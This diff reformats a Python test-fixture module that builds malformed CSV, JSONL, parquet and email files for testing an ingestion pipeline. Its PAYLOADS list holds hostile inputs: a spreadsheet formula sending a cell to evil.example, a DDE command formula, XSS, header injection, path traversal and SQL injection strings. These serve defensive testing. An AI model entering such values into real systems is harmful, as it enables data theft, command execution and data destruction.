@@ -10,15 +10,24 @@ from assets.landing_schemas import SCHEMAS
 
 HEADER = list(SCHEMAS["leads"].columns)
 GOOD = {
-    "source_id": "crm_export", "source_record": "R1", "captured_on": "2026-10-01", "first_name": "Ann",
-    "last_name": "Lee", "email": "ann@acme.example", "phone": "+44 20 7946 0958", "company_name": "Acme",
-    "company_website": "acme.example", "role": "Owner", "country": "GB", "city": "London",
+    "source_id": "crm_export",
+    "source_record": "R1",
+    "captured_on": "2026-10-01",
+    "first_name": "Ann",
+    "last_name": "Lee",
+    "email": "ann@acme.example",
+    "phone": "+44 20 7946 0958",
+    "company_name": "Acme",
+    "company_website": "acme.example",
+    "role": "Owner",
+    "country": "GB",
+    "city": "London",
 }
 
 # what a hostile or careless outside world puts into fields that reach exports, headers,
 # file paths and SQL
 PAYLOADS = [
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "=cmd|' /C calc'!A0",
     "+SUM(1,2)",
     "-2+3",
@@ -27,14 +36,14 @@ PAYLOADS = [
     "\r=1+1",
     "<script>alert('x')</script>",
     "<img src=x onerror=alert(1)>",
-    "\"><svg/onload=alert(2)>",
+    '"><svg/onload=alert(2)>',
     "javascript:alert(3)",
     "Ann\r\nBcc: victim@evil.example",
     "Ann\nX-Injected: yes",
     "../../../../etc/passwd",
     "..\\..\\windows\\system32",
     "'; drop table raw.leads; --",
-    "\" or 1=1 --",
+    '" or 1=1 --',
     "Robert'); DELETE FROM review.decisions; --",
     "{{ 7*7 }}",
     "{% raw %}{{ config }}{% endraw %}",
@@ -44,7 +53,9 @@ PAYLOADS = [
 ]
 
 
-def csv_bytes(rows: list[dict], header: list[str] = HEADER, newline: str = "\n", encoding: str = "utf-8") -> bytes:
+def csv_bytes(
+    rows: list[dict], header: list[str] = HEADER, newline: str = "\n", encoding: str = "utf-8"
+) -> bytes:
     out = io.StringIO()
     out.write(",".join(header) + newline)
     for row in rows:
@@ -67,40 +78,105 @@ def landing_files() -> list[tuple[str, bytes]]:
     rows = [good(i) for i in range(1, 4)]
     big = good(90, company_name="x" * 200_000)
     return [
-        ("latin1.csv", csv_bytes([good(10, first_name="José", last_name="Müller")], encoding="latin-1")),
-        ("utf16_bom.csv", codecs.BOM_UTF16_LE + csv_bytes([good(11, first_name="Zoë")], encoding="utf-16-le")),
+        (
+            "latin1.csv",
+            csv_bytes([good(10, first_name="José", last_name="Müller")], encoding="latin-1"),
+        ),
+        (
+            "utf16_bom.csv",
+            codecs.BOM_UTF16_LE + csv_bytes([good(11, first_name="Zoë")], encoding="utf-16-le"),
+        ),
         ("utf8_bom.csv", codecs.BOM_UTF8 + csv_bytes([good(12)])),
         # found by fuzzing: a UTF-16 file cut mid-character crashed the reader
-        ("utf16_damaged.csv", (codecs.BOM_UTF16_LE + csv_bytes([good(26)], encoding="utf-16-le"))[:-1]),
+        (
+            "utf16_damaged.csv",
+            (codecs.BOM_UTF16_LE + csv_bytes([good(26)], encoding="utf-16-le"))[:-1],
+        ),
         ("crlf.csv", csv_bytes(rows, newline="\r\n")),
         ("cr_only.csv", csv_bytes([good(13)], newline="\r")),
-        ("mixed_endings.csv", csv_bytes([good(14)]) + csv_bytes([good(15)], newline="\r\n").split(b"\r\n", 1)[1]),
-        ("missing_column.csv", csv_bytes([good(16)], header=[c for c in HEADER if c != "captured_on"])),
-        ("extra_columns.csv", csv_bytes([good(17) | {"favourite_colour": "teal"}], header=HEADER + ["favourite_colour"])),
+        (
+            "mixed_endings.csv",
+            csv_bytes([good(14)]) + csv_bytes([good(15)], newline="\r\n").split(b"\r\n", 1)[1],
+        ),
+        (
+            "missing_column.csv",
+            csv_bytes([good(16)], header=[c for c in HEADER if c != "captured_on"]),
+        ),
+        (
+            "extra_columns.csv",
+            csv_bytes(
+                [good(17) | {"favourite_colour": "teal"}], header=HEADER + ["favourite_colour"]
+            ),
+        ),
         ("duplicated_header.csv", csv_bytes([good(18)], header=HEADER + ["email"])),
-        ("quoted_newlines.csv", csv_bytes([good(19, company_name="Acme\nLtd", city="Bristol\r\nUK")])),
+        (
+            "quoted_newlines.csv",
+            csv_bytes([good(19, company_name="Acme\nLtd", city="Bristol\r\nUK")]),
+        ),
         ("enormous_field.csv", csv_bytes([big, good(91)])),
-        ("nul_bytes.csv", csv_bytes([good(20)]).replace(b"Ann", b"A\x00nn") + csv_bytes([good(21)]).split(b"\n", 1)[1]),
-        ("lookalike_domain.csv", csv_bytes([good(22, email="ann@аcme.example", company_website="аcme.example")])),  # Cyrillic а
-        ("display_names.csv", csv_bytes([
-            good(23, email="Ann Lee <ann.lee@acme.example>"),
-            good(24, email="ann.lee@acme.example (Ann Lee)"),
-            good(25, email="\"Lee, Ann\" <ann.l@acme.example>"),
-        ])),
-        ("phones.csv", csv_bytes([
-            good(30 + i, phone=p) for i, p in enumerate(
-                ["020 7946 0958", "+44 (0)20 7946 0958", "0044 20 7946 0958", "442079460958", "(212) 555-0123",
-                 "+1-212-555-0123", "tel:+44-20-7946-0958", "07700 900123 ext. 4", "not a phone", "+999 123"]
-            )
-        ])),
+        (
+            "nul_bytes.csv",
+            csv_bytes([good(20)]).replace(b"Ann", b"A\x00nn")
+            + csv_bytes([good(21)]).split(b"\n", 1)[1],
+        ),
+        (
+            "lookalike_domain.csv",
+            csv_bytes([good(22, email="ann@аcme.example", company_website="аcme.example")]),
+        ),  # Cyrillic а
+        (
+            "display_names.csv",
+            csv_bytes(
+                [
+                    good(23, email="Ann Lee <ann.lee@acme.example>"),
+                    good(24, email="ann.lee@acme.example (Ann Lee)"),
+                    good(25, email='"Lee, Ann" <ann.l@acme.example>'),
+                ]
+            ),
+        ),
+        (
+            "phones.csv",
+            csv_bytes(
+                [
+                    good(30 + i, phone=p)
+                    for i, p in enumerate(
+                        [
+                            "020 7946 0958",
+                            "+44 (0)20 7946 0958",
+                            "0044 20 7946 0958",
+                            "442079460958",
+                            "(212) 555-0123",
+                            "+1-212-555-0123",
+                            "tel:+44-20-7946-0958",
+                            "07700 900123 ext. 4",
+                            "not a phone",
+                            "+999 123",
+                        ]
+                    )
+                ]
+            ),
+        ),
         ("truncated.csv", csv_bytes(rows)[:-25]),
         ("empty.csv", b""),
         ("header_only.csv", csv_bytes([])),
         ("binary.csv", bytes(range(256)) * 40),
-        ("ragged.csv", csv_bytes(rows) + b"crm_export,R99,2026-10-01\n" + b",".join([b"x"] * 20) + b"\n"),
-        ("bad_lines.jsonl", b'{"source_id": "crm_export", "source_record": "J1", "captured_on": "2026-10-01", "email": "j1@acme.example"}\n{not json}\n[1,2]\n"a string"\n\n'),
+        (
+            "ragged.csv",
+            csv_bytes(rows) + b"crm_export,R99,2026-10-01\n" + b",".join([b"x"] * 20) + b"\n",
+        ),
+        (
+            "bad_lines.jsonl",
+            b'{"source_id": "crm_export", "source_record": "J1", "captured_on": "2026-10-01", "email": "j1@acme.example"}\n{not json}\n[1,2]\n"a string"\n\n',
+        ),
         ("corrupt.parquet", b"PAR1" + b"\x00" * 100 + b"PAR1"),
-        ("payloads.csv", csv_bytes([good(200 + i, first_name=p, last_name=p, company_name=p, role=p, city=p) for i, p in enumerate(PAYLOADS)])),
+        (
+            "payloads.csv",
+            csv_bytes(
+                [
+                    good(200 + i, first_name=p, last_name=p, company_name=p, role=p, city=p)
+                    for i, p in enumerate(PAYLOADS)
+                ]
+            ),
+        ),
     ]
 
 
@@ -118,7 +194,12 @@ def mail_corpus() -> list[tuple[str, bytes]]:
     attached["Subject"] = "big"
     attached["Message-ID"] = "<big@clinic.example>"
     attached.set_content("see attached")
-    attached.add_attachment(b"\x00" * (50 * 1024 * 1024), maintype="application", subtype="octet-stream", filename="big.bin")
+    attached.add_attachment(
+        b"\x00" * (50 * 1024 * 1024),
+        maintype="application",
+        subtype="octet-stream",
+        filename="big.bin",
+    )
 
     nested = plain
     for depth in range(5):
@@ -132,16 +213,31 @@ def mail_corpus() -> list[tuple[str, bytes]]:
     return [
         ("truncated.eml", full[: len(full) // 2]),
         ("headers_only.eml", b"From: a@b.example\r\nSubject: nothing"),
-        ("broken_mime.eml", b"From: a@b.example\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"XX\"\r\n\r\n--XX\r\nContent-Type: text/plain\r\n\r\nstop\r\n--YY--\r\n"),
-        ("unknown_charset.eml", b"From: a@b.example\r\nContent-Type: text/plain; charset=x-no-such-charset\r\nSubject: =?x-bogus?Q?hi?=\r\n\r\nPlease remove me\r\n"),
-        ("bad_base64.eml", b"From: a@b.example\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!not base64!!!\r\n"),
+        (
+            "broken_mime.eml",
+            b'From: a@b.example\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="XX"\r\n\r\n--XX\r\nContent-Type: text/plain\r\n\r\nstop\r\n--YY--\r\n',
+        ),
+        (
+            "unknown_charset.eml",
+            b"From: a@b.example\r\nContent-Type: text/plain; charset=x-no-such-charset\r\nSubject: =?x-bogus?Q?hi?=\r\n\r\nPlease remove me\r\n",
+        ),
+        (
+            "bad_base64.eml",
+            b"From: a@b.example\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!not base64!!!\r\n",
+        ),
         ("no_message_id.eml", full.replace(b"Message-ID: <p1@clinic.example>\n", b"")),
         ("nested_rfc822.eml", bytes(nested)),
         ("fifty_mb_attachment.eml", bytes(attached)),
         ("binary_garbage.eml", bytes(range(256)) * 100),
         ("empty.eml", b""),
-        ("crlf_in_header.eml", b"From: a@b.example\r\nSubject: hi\r\n\tBcc: x@y.example\r\nIn-Reply-To: <cm_x\r\n @mwms.example>\r\n\r\nstop\r\n"),
-        ("dsn_without_recipients.eml", b"From: MAILER-DAEMON@mx.example\r\nContent-Type: multipart/report; report-type=delivery-status; boundary=B\r\nSubject: Undelivered Mail\r\n\r\n--B\r\nContent-Type: text/plain\r\n\r\nfailed\r\n--B\r\nContent-Type: message/delivery-status\r\n\r\n\r\n--B--\r\n"),
+        (
+            "crlf_in_header.eml",
+            b"From: a@b.example\r\nSubject: hi\r\n\tBcc: x@y.example\r\nIn-Reply-To: <cm_x\r\n @mwms.example>\r\n\r\nstop\r\n",
+        ),
+        (
+            "dsn_without_recipients.eml",
+            b"From: MAILER-DAEMON@mx.example\r\nContent-Type: multipart/report; report-type=delivery-status; boundary=B\r\nSubject: Undelivered Mail\r\n\r\n--B\r\nContent-Type: text/plain\r\n\r\nfailed\r\n--B\r\nContent-Type: message/delivery-status\r\n\r\n\r\n--B--\r\n",
+        ),
     ]
 
 
